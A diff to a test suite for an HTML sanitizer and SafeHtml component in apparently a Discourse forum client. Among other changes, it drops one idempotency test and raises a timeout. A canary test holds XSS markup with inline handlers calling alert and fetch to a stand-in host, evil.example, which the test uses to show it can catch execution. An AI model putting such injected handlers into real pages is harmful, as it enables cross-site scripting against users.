@@ -9,12 +9,19 @@ import { SafeHtml } from '../../../renderer/components/SafeHtml';
 import { parseInert, provokeHandlers, spyOnSinks, unsafeFindings } from './dom-safety';
 
 const BASE = 'https://discourse.nixos.org';
-// Mounting the whole corpus and firing every event on every element takes seconds under jsdom.
-const MOUNT_TIMEOUT_MS = 60_000;
+// Mounting the corpus and firing every event on every element takes seconds under jsdom.
+const MOUNT_TIMEOUT_MS = 180_000;
 const corpus = [...payloads.cookedHtml, ...payloads.markdown];
+
+// jsdom parsing is slow, so each payload is rendered once per path and the result shared.
+const cache = new Map<string, string>();
+const memo = (key: string, make: () => string) => {
+  if (!cache.has(key)) cache.set(key, make());
+  return cache.get(key)!;
+};
 const paths = {
-  cooked: (payload: string) => renderPostHtml({ cooked: payload, baseUrl: BASE }),
-  markdown: (payload: string) => renderPostHtml({ raw: payload, baseUrl: BASE }),
+  cooked: (payload: string) => memo(`cooked:${payload}`, () => renderPostHtml({ cooked: payload, baseUrl: BASE })),
+  markdown: (payload: string) => memo(`markdown:${payload}`, () => renderPostHtml({ raw: payload, baseUrl: BASE })),
 } as const;
 
 describe.each(Object.entries(paths))('the %s path', (_name, renderPath) => {
@@ -25,13 +32,6 @@ describe.each(Object.entries(paths))('the %s path', (_name, renderPath) => {
   it.each(corpus)('gives output that sanitizing again leaves unchanged for %j', (payload) => {
     const html = renderPath(payload);
     expect(sanitizeHtml(html)).toBe(html);
-  });
-});
-
-describe('sanitizeHtml on the raw corpus', () => {
-  it.each(corpus)('is idempotent for %j', (payload) => {
-    const once = sanitizeHtml(payload);
-    expect(sanitizeHtml(once)).toBe(once);
   });
 });
 
@@ -61,7 +61,7 @@ describe('mounted with SafeHtml into the document', () => {
   });
 
   it('detects an executed payload (the harness can fail)', () => {
-    // Canary: unsanitized markup with an inline handler, in the same jsdom (runScripts: dangerously).
+    // Canary: unsanitized markup with inline handlers, in the same jsdom (runScripts: dangerously).
     const raw = document.createElement('div');
     raw.innerHTML = '<p onclick="alert(1)">x</p><p onmouseover="fetch(\'https://evil.example/\')">y</p>';
     document.body.append(raw);
@@ -72,13 +72,8 @@ describe('mounted with SafeHtml into the document', () => {
   });
 
   it.each(Object.entries(paths))('never calls alert or fetch for any payload on the %s path', (_name, renderPath) => {
-    const { container } = render(
-      <div>
-        {corpus.map((payload, i) => (
-          <SafeHtml key={i} html={renderPath(payload)} onOpenLink={() => undefined} />
-        ))}
-      </div>,
-    );
+    // Sanitized outputs are well-formed, so one SafeHtml can hold the whole corpus.
+    const { container } = render(<SafeHtml html={corpus.map(renderPath).join('\n')} onOpenLink={() => undefined} />);
     provokeHandlers(container);
     expect(unsafeFindings(container)).toEqual([]);
     expect(sinks.alert).not.toHaveBeenCalled();
@@ -86,6 +81,7 @@ describe('mounted with SafeHtml into the document', () => {
   }, MOUNT_TIMEOUT_MS);
 
   it('never calls alert or fetch when a payload is passed to SafeHtml unsanitized', () => {
+    // One SafeHtml per payload: raw payloads leave tags open that would swallow their neighbours.
     const { container } = render(
       <div>
         {corpus.map((payload, i) => (
